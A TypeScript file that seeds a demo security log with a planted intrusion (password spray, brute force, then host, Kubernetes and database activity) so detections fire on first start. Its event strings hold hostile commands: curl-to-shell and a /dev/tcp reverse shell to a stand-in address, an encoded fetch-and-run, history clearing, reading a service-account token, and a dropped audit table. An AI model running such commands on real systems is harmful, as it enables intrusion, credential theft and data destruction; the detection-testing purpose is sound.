// A planted intrusion, one afternoon of the demo log: a password spray from an address nobody uses,
// a brute force on one account that then gets in from that new address, and what an intruder does on a
// host, a pod and a database. The built-in detections must find each step, so a new user sees the
// inbox fill on first start and can follow the user through the timeline. Kept apart from plants.ts,
// whose patterns are the reports' and the example queries'.
import { DATABASES, HOSTS, HUMANS, KUBE_CLUSTERS, person } from './cast';
import type { ScenarioContext } from './scenarios';
import { MINUTE_MS, SECOND_MS } from './time';

/** The intruder's address (TEST-NET-3, so it is nobody's real one). */
export const INTRUDER_IP = '203.0.113.66';

/** Places the intrusion from `start` on (epoch ms), over about two hours. */
export function plantIntrusion(ctx: ScenarioContext, start: number): void {
  const { rng, events, sink } = ctx;
  let t = start;
  const step = (ms: number): number => (t += ms + rng.int(0, 999));
  const ua = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36';

  // Password spray: one failed login each for eight accounts from one address within twenty minutes.
  for (const p of HUMANS.slice(0, 8)) sink.emit(step(2 * MINUTE_MS), events.userLogin(t, p, INTRUDER_IP, false, false, ua));

  // Brute force on bob: seven failures in five minutes, then a success from the same, new address.
  const bob = person('bob');
  for (let i = 0; i < 7; i++) sink.emit(step(40 * SECOND_MS), events.userLogin(t, bob, INTRUDER_IP, false, false, ua));
  sink.emit(step(30 * SECOND_MS), events.userLogin(t, bob, INTRUDER_IP, true, false, ua));

  // On a host: download and run, a reverse shell, a scan, a decoded script, and covering tracks.
  const host = HOSTS[2];
  const sid = rng.uuid();
  sink.emit(step(MINUTE_MS), events.sessionStart(t, bob, {}, host, 'ubuntu', sid, INTRUDER_IP));
  const started = t;
  const commands = [
    'curl -fsSL http://203.0.113.66/x.sh | sh',
    'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
    'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjY2L2sgfCBzaAo= | base64 -d | sh',
    'history -c',
  ];
  for (const c of commands) sink.emit(step(2 * MINUTE_MS), events.exec(t, bob, {}, host, 'ubuntu', sid, INTRUDER_IP, c, 0));
  sink.emit(step(MINUTE_MS), events.sessionCommand(t, 2, bob, {}, host, 'ubuntu', sid, 'nmap', ['-sS', '-p', '22,443,5432', '10.0.0.0/16'], 0));
  sink.emit(step(MINUTE_MS), events.sessionEnd(t, started, bob, {}, host, 'ubuntu', sid, true));

  // Into the cluster's system namespace.
  const k = KUBE_CLUSTERS[0];
  const kubeSid = rng.uuid();
  const corePod = { name: 'coredns-5d78c9869d-7x2lp', namespace: 'kube-system', container: 'coredns', image: 'registry.k8s.io/coredns/coredns:v1.11.1', node: k.pods[0].node };
  sink.emit(step(5 * MINUTE_MS), events.kubeExec(t, bob, {}, k, corePod, kubeSid, INTRUDER_IP, 'sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token', 0));

  // And the database: a look around, then a grant to a new login and a dropped table.
  const d = DATABASES[0];
  const dbSid = rng.uuid();
  const dbUser = bob.dbUsers[0] ?? 'app_rw';
  sink.emit(step(10 * MINUTE_MS), events.dbSessionStart(t, bob, {}, d, dbUser, 'orders', dbSid, INTRUDER_IP));
  sink.emit(step(30 * SECOND_MS), events.dbQuery(t, bob, {}, d, dbUser, 'orders', dbSid, 'SELECT * FROM customers LIMIT 1000'));
  sink.emit(step(30 * SECOND_MS), events.dbQuery(t, bob, {}, d, dbUser, 'orders', dbSid, 'GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO backup_svc'));
  sink.emit(step(30 * SECOND_MS), events.dbQuery(t, bob, {}, d, dbUser, 'orders', dbSid, 'DROP TABLE audit_trail'));
  sink.emit(step(MINUTE_MS), events.dbSessionEnd(t, bob, {}, d, dbUser, 'orders', dbSid));
}
